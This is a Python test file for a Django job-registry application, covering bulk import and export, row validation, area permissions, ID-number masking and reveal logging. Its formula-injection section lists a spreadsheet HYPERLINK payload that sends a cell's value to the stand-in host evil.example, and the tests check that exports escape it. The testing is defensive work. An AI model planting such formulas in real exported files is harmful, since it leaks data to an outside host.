"""Bulk import and export of the registries: preview, row errors, nothing half-written."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from jobs.imports.resources import (
    EmployerResource,
    HardshipResource,
    MigrantRecordResource,
    PersonResource,
    VacancyResource,
)
from jobs.models import Employer, HardToEmployProfile, MigrantRecord, Person, RevealLog, Support, Vacancy
from jobs.services.roles import CITY_STAFF, STATION_STAFF
from tests.factories import (
    EmployerFactory,
    OccupationFactory,
    PersonFactory,
    SkillFactory,
    VacancyFactory,
    make_credit_code,
    make_id_number,
    region,
    staff_user,
)

pytestmark = pytest.mark.django_db

PERSON_HEADERS = [
    "姓名",
    "身份证号",
    "手机号",
    "现居住地",
    "学历",
    "就业状态",
    "正在求职",
    "技能",
    "期望职业",
    "同意岗位匹配",
]


def person_row(**overrides: str) -> list[str]:
    row = {
        "姓名": "王五", "身份证号": make_id_number(), "手机号": "13800138000", "现居住地": "湖北省京山市新市街道",
        "学历": "高中/中专/技校", "就业状态": "unemployed", "正在求职": "是", "技能": "", "期望职业": "", "同意岗位匹配": "是",
    }  # fmt: skip
    row.update(overrides)
    return [row[h] for h in PERSON_HEADERS]


def dataset(headers: list[str], rows: list[list[str]]) -> tablib.Dataset:
    return tablib.Dataset(*rows, headers=headers)


def errors_of(result: Any) -> str:
    """Every row error of an import result, as one string."""
    parts = [str(row.error_dict) for row in result.invalid_rows]
    parts += [str(err.error) for row_errors in result.row_errors() for err in row_errors[1]]
    return " ".join(parts)


@pytest.fixture
def skills() -> None:
    SkillFactory(name="叉车驾驶", synonyms="开叉车、开铲车")
    OccupationFactory(name="叉车司机", synonyms="铲车工")


# --- Through the resources ------------------------------------------------------------------------


def test_a_good_file_registers_everyone_with_their_skills(skills: None) -> None:
    # given
    rows = [person_row(技能="开铲车", 期望职业="铲车工"), person_row(姓名="赵六", 手机号="")]
    # when
    result = PersonResource().import_data(dataset(PERSON_HEADERS, rows), dry_run=False)
    # then
    assert not result.has_errors() and not result.has_validation_errors()
    wang = Person.objects.get(name="王五")
    assert [s.skill.name for s in wang.skills.all()] == ["叉车驾驶"]
    assert [o.name for o in wang.desired_occupations.all()] == ["叉车司机"]
    assert (wang.home_region_id, wang.source, wang.phone) == ("420882", Person.Source.IMPORT, "13800138000")
    assert wang.consent_matching and wang.consent_recorded_at is not None
    assert Person.objects.count() == 2


def test_one_bad_row_means_nothing_is_written_and_each_error_names_its_field(english: None) -> None:
    # given a good row, a wrong check digit, an unknown region and an unknown education level
    rows = [
        person_row(),
        person_row(身份证号="110105194912310021"),
        person_row(现居住地="火星基地"),
        person_row(学历="幼儿园"),
    ]
    # when
    result = PersonResource().import_data(dataset(PERSON_HEADERS, rows), dry_run=False)
    # then
    assert Person.objects.count() == 0
    assert [r.number for r in result.invalid_rows] == [3, 4, 5]  # the spreadsheet's row numbers
    text = errors_of(result)
    assert "check digit" in text and "火星基地" in text and "幼儿园" in text


def test_the_same_id_number_twice_in_one_file_is_an_error(english: None) -> None:
    number = make_id_number()
    rows = [person_row(身份证号=number), person_row(身份证号=number.lower(), 姓名="冒名")]
    result = PersonResource().import_data(dataset(PERSON_HEADERS, rows), dry_run=False)
    assert Person.objects.count() == 0
    assert "same as row 2" in errors_of(result)  # the header is row 1


def test_a_known_id_number_updates_the_person_instead_of_duplicating() -> None:
    existing = PersonFactory(name="旧名字")
    rows = [person_row(身份证号=existing.id_number, 姓名="新名字")]
    result = PersonResource().import_data(dataset(PERSON_HEADERS, rows), dry_run=False)
    assert not result.has_validation_errors()
    assert Person.objects.get().name == "新名字"


def test_station_staff_cannot_import_into_or_over_another_area(english: None) -> None:
    # given station staff of 京山市 and a person already registered in 钟祥市
    staff = staff_user("jingshan", "420882", groups=[STATION_STAFF])
    theirs = PersonFactory(name="钟祥人", home_region=region("420881"))
    rows = [person_row(现居住地="钟祥市"), person_row(身份证号=theirs.id_number, 姓名="改名")]
    # when
    result = PersonResource(user=staff).import_data(dataset(PERSON_HEADERS, rows), dry_run=False)
    # then
    assert "outside your area" in errors_of(result)
    assert Person.objects.get().name == "钟祥人"


def test_dry_run_writes_nothing_even_for_a_good_file() -> None:
    result = PersonResource().import_data(dataset(PERSON_HEADERS, [person_row()]), dry_run=True)
    assert not result.has_validation_errors() and result.totals["new"] == 1
    assert Person.objects.count() == 0


def test_employers_with_bad_credit_codes_are_refused(english: None) -> None:
    headers = ["单位名称", "统一社会信用代码", "行业", "所在地", "联系电话"]
    rows = [
        ["京山叉车厂", make_credit_code(), "C", "京山市", "13900000001"],
        ["坏代码公司", "91330100716105852G", "C", "京山市", ""],
        ["坏电话公司", make_credit_code(), "制造业", "京山市", "0724-123"],
    ]
    result = EmployerResource().import_data(dataset(headers, rows), dry_run=False)
    assert Employer.objects.count() == 0
    text = errors_of(result)
    assert "GB 32100" in text and "Mobile number" in text


def test_vacancies_import_with_skills_and_refuse_an_upside_down_wage_range(
    skills: None, english: None
) -> None:
    employer = EmployerFactory()
    headers = [
        "单位统一社会信用代码",
        "岗位名称",
        "职业",
        "用工形式",
        "招聘人数",
        "最低薪酬",
        "最高薪酬",
        "计薪单位",
        "工作地点",
        "有效期起",
        "有效期止",
        "技能要求",
    ]
    good = [
        employer.credit_code,
        "叉车工",
        "铲车工",
        "全职",
        "3",
        "4500",
        "6500",
        "month",
        "京山市",
        "2026-11-01",
        "2027-01-31",
        "叉车驾驶",
    ]
    result = VacancyResource().import_data(dataset(headers, [good]), dry_run=False)
    assert not result.has_validation_errors(), errors_of(result)
    vacancy = Vacancy.objects.get()
    assert (vacancy.occupation.name, vacancy.status, [s.skill.name for s in vacancy.skills.all()]) == (
        "叉车司机",
        "open",
        ["叉车驾驶"],
    )

    bad = [*good[:5], "8000", "5000", *good[7:]]
    negative = [*good[:5], "-1", "5000", *good[7:]]
    result = VacancyResource().import_data(dataset(headers, [good, bad, negative]), dry_run=False)
    assert Vacancy.objects.count() == 1
    text = errors_of(result)
    assert "must not be below the minimum wage" in text and "must not be negative" in text


def test_migrant_rows_become_current_records_and_keep_history() -> None:
    person = PersonFactory()
    MigrantRecord.objects.create(person=person, work_region=region("440300"), started_on=date(2019, 3, 1))
    headers = ["身份证号", "务工地", "外出时间", "预计返乡时间", "有意本地就业", "社保缴纳地"]
    rows = [[person.id_number, "江苏省苏州市", "2024-03-01", "2027-01-20", "是", "苏州市"]]
    result = MigrantRecordResource().import_data(dataset(headers, rows), dry_run=False)
    assert not result.has_validation_errors(), errors_of(result)
    current = MigrantRecord.objects.get(person=person, is_current=True)
    assert (current.work_region_id, current.insurance_region_id, current.intends_local_work) == (
        "320500",
        "320500",
        True,
    )
    assert MigrantRecord.objects.filter(person=person).count() == 2


def test_hardship_rows_need_a_registered_person_and_their_tier_is_the_rules(english: None) -> None:
    person = PersonFactory()
    headers = ["身份证号", "困难类别", "认定日期"]
    rows = [
        [person.id_number, "零就业家庭、脱贫人口", "2026-10-01"],
        [make_id_number(), "veteran", "2026-10-01"],
    ]
    result = HardshipResource().import_data(dataset(headers, rows), dry_run=False)
    assert HardToEmployProfile.objects.count() == 0
    assert "no such person" in errors_of(result)
    result = HardshipResource().import_data(dataset(headers, rows[:1]), dry_run=False)
    profile = HardToEmployProfile.objects.get()
    assert {c.category for c in profile.categories.all()} == {"zero_household", "poverty"}
    # a household with nobody in work, as recorded for someone whose household is not on file
    support = Support.objects.get(person=person)
    assert support.tier == "red" and [r["rule"] for r in support.reasons] == ["zero_household"]


# --- Through the admin ---------------------------------------------------------------------------


def _format_index(client: Client, url: str, name: str) -> str:
    form = client.get(url).context["form"]
    return next(value for value, label in form.fields["format"].choices if label == name)


def admin_import(client: Client, model: str, upload: SimpleUploadedFile, fmt: str) -> Any:
    url = reverse(f"admin:jobs_{model}_import")
    return client.post(
        url, {"format": _format_index(client, url, fmt), "import_file": upload, "resource": "0"}
    )


def test_staff_import_an_xlsx_file_after_a_preview(skills: None) -> None:
    # given an xlsx file as an office would keep it
    staff = staff_user("jingshan", "420882", groups=[STATION_STAFF])
    client = Client()
    client.force_login(staff)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(PERSON_HEADERS)
    sheet.append(person_row(技能="叉车驾驶"))
    sheet.append(person_row(姓名="赵六"))
    buffer = io.BytesIO()
    book.save(buffer)
    upload = SimpleUploadedFile("劳动力.xlsx", buffer.getvalue())
    # when previewing
    preview = admin_import(client, "person", upload, "xlsx")
    # then nothing is written yet, and a confirm form is offered
    assert preview.status_code == 200 and Person.objects.count() == 0
    confirm = preview.context["confirm_form"]
    # when confirming
    done = client.post(reverse("admin:jobs_person_process_import"), confirm.initial)
    # then
    assert done.status_code == 302
    assert sorted(Person.objects.values_list("name", flat=True)) == ["王五", "赵六"]


def test_a_bad_csv_is_reported_in_chinese_and_cannot_be_confirmed() -> None:
    staff = staff_user("jingshan", "420882", groups=[STATION_STAFF])
    client = Client()
    client.force_login(staff)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(PERSON_HEADERS)
    writer.writerow(person_row())
    writer.writerow(person_row(身份证号="110105194912310021"))
    upload = SimpleUploadedFile("people.csv", buffer.getvalue().encode("utf-8"))
    preview = admin_import(client, "person", upload, "csv")
    html = preview.content.decode()
    assert preview.status_code == 200
    assert "身份证号：" in html and "GB 11643" in html
    assert preview.context.get("confirm_form") is None
    assert Person.objects.count() == 0


def test_export_masks_numbers_for_station_staff_and_logs_full_exports() -> None:
    person = PersonFactory()
    station = staff_user("jingshan", "420882", groups=[STATION_STAFF])
    city = staff_user("jingmen", "420800", groups=[CITY_STAFF])
    masked = PersonResource(user=station).export(Person.objects.all())
    assert masked.dict[0]["身份证号"] == person.id_number_masked and not RevealLog.objects.exists()
    full = PersonResource(user=city).export(Person.objects.all())
    assert full.dict[0]["身份证号"] == person.id_number
    assert RevealLog.objects.get().purpose == "export"


def test_a_full_export_of_migrant_records_is_logged_for_each_person() -> None:
    # given two records of one person
    person = PersonFactory()
    for year in (2019, 2023):
        MigrantRecord.objects.create(person=person, work_region=region("440300"), started_on=date(year, 3, 1),
                                     is_current=year == 2023)  # fmt: skip
    city = staff_user("jingmen", "420800", groups=[CITY_STAFF])

    # when city staff, who may reveal, export them
    full = MigrantRecordResource(user=city).export(MigrantRecord.objects.all())

    # then the full numbers are in the file and the person's reveal is on record once
    assert {row["身份证号"] for row in full.dict} == {person.id_number}
    assert list(RevealLog.objects.values_list("person_id", "purpose")) == [(person.pk, "export")]


def test_export_through_the_admin_contains_only_the_staff_members_area() -> None:
    PersonFactory(name="京山人")
    PersonFactory(name="钟祥人", home_region=region("420881"))
    staff = staff_user("jingshan", "420882", groups=[STATION_STAFF])
    client = Client()
    client.force_login(staff)
    url = reverse("admin:jobs_person_export")
    form = client.get(url).context["form"]
    csv_index = next(value for value, label in form.fields["format"].choices if label == "csv")
    data = {
        "format": csv_index,
        "resource": "0",
        **{f"personresource_{f}": "on" for f in PersonResource.Meta.fields},
    }
    response = client.post(url, data)
    body = response.content.decode("utf-8-sig")
    assert response.status_code == 200, body[:500]
    assert "京山人" in body and "钟祥人" not in body


# --- From the command line -------------------------------------------------------------------------


def test_the_command_imports_a_whole_file_or_reports_every_bad_row(
    tmp_path: Any, capsys: Any, english: None
) -> None:
    from django.core.management import CommandError, call_command

    good = tmp_path / "good.csv"
    good.write_text(",".join(PERSON_HEADERS) + "\n" + ",".join(person_row()) + "\n", encoding="utf-8")
    bad = tmp_path / "bad.csv"
    bad.write_text(
        ",".join(PERSON_HEADERS)
        + "\n"
        + ",".join(person_row())
        + "\n"
        + ",".join(person_row(现居住地="火星"))
        + "\n",
        encoding="utf-8",
    )
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_registry", "people", str(bad))
    assert "Row 3 现居住地" in capsys.readouterr().err
    assert Person.objects.count() == 0
    call_command("import_registry", "people", str(good), "--dry-run")
    assert Person.objects.count() == 0
    call_command("import_registry", "people", str(good))
    assert Person.objects.count() == 1


# --- Formulae in exported cells --------------------------------------------------------------------

FORMULAE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def admin_export(client: Client, model: str, resource: type, fmt: str) -> bytes:
    url = reverse(f"admin:jobs_{model}_export")
    data = {
        "format": _format_index(client, url, fmt),
        "resource": "0",
        **{f"{resource.__name__.lower()}_{f}": "on" for f in resource.Meta.fields},
    }
    response = client.post(url, data)
    assert response.status_code == 200
    return bytes(response.content)


@pytest.mark.parametrize(
    ("model", "resource", "column", "make"),
    [
        ("person", PersonResource, "姓名", lambda text: PersonFactory(name=text)),
        ("employer", EmployerResource, "单位名称", lambda text: EmployerFactory(name=text)),
        ("vacancy", VacancyResource, "岗位名称", lambda text: VacancyFactory(title=text)),
    ],
)
def test_exported_names_that_look_like_formulae_stay_text_in_csv_and_xlsx(
    model: str, resource: type, column: str, make: Any
) -> None:
    # given a row of each registry per dangerous first character
    for text in FORMULAE:
        make(text)
    client = Client()
    client.force_login(staff_user("jingmen", "420800", groups=[CITY_STAFF]))
    # when exported as csv
    rows = list(csv.DictReader(io.StringIO(admin_export(client, model, resource, "csv").decode("utf-8-sig"))))
    # then every such cell starts with an apostrophe, so no spreadsheet evaluates it
    assert sorted(row[column] for row in rows) == sorted(f"'{text}" for text in FORMULAE)
    # when exported as xlsx
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, model, resource, "xlsx"))).active
    headers = [cell.value for cell in sheet[1]]
    cells = [row[headers.index(column)] for row in sheet.iter_rows(min_row=2)]
    # then each is a string cell, not a formula
    assert {cell.data_type for cell in cells} == {"s"}
    # (the xml that holds the cells turns a carriage return into a line feed)
    assert sorted(cell.value for cell in cells) == sorted(f"'{text}".replace("\r", "\n") for text in FORMULAE)


def test_an_exported_file_imports_as_it_was_with_its_escapes_taken_off() -> None:
    # given a person whose self-description starts like a formula, exported
    person = PersonFactory(self_description="-会开叉车", name="王五")
    exported = PersonResource().export(Person.objects.all())
    row = exported.dict[0]
    assert row["自我描述"] == "'-会开叉车"

    # when the export is imported again (with the full numbers, as a full export has them)
    row["身份证号"], row["手机号"] = person.id_number, person.phone
    result = PersonResource().import_data(dataset(list(row), [list(row.values())]), dry_run=False)

    # then the text is as it was
    assert not result.has_validation_errors(), errors_of(result)
    assert Person.objects.get().self_description == "-会开叉车"


def test_numbers_and_ordinary_text_are_exported_unchanged() -> None:
    # given
    VacancyFactory(title="叉车司机-夜班", wage_min=4500)
    # when
    dataset = VacancyResource().export(Vacancy.objects.all())
    # then
    assert (dataset.dict[0]["岗位名称"], dataset.dict[0]["最低薪酬"]) == ("叉车司机-夜班", "4500")
